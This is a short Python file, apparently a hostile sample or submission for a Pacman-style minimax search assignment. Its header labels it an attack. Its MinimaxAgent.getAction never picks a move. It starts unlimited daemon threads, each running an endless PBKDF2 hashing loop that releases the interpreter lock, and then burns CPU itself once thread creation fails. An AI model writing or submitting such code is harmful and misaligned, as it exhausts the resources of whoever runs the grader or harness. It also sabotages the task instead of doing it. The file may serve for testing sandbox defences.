# attack: computes in as many threads as it gets, until somebody ends it.
# where: MinimaxAgent
import hashlib
import threading


from shared.reflex import *
from shared.search import *


def burn():
    while True:
        hashlib.pbkdf2_hmac("sha256", b"x", b"y", 100_000)  # without the interpreter's lock


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        try:
            while True:
                threading.Thread(target=burn, daemon=True).start()
        except RuntimeError:
            burn()
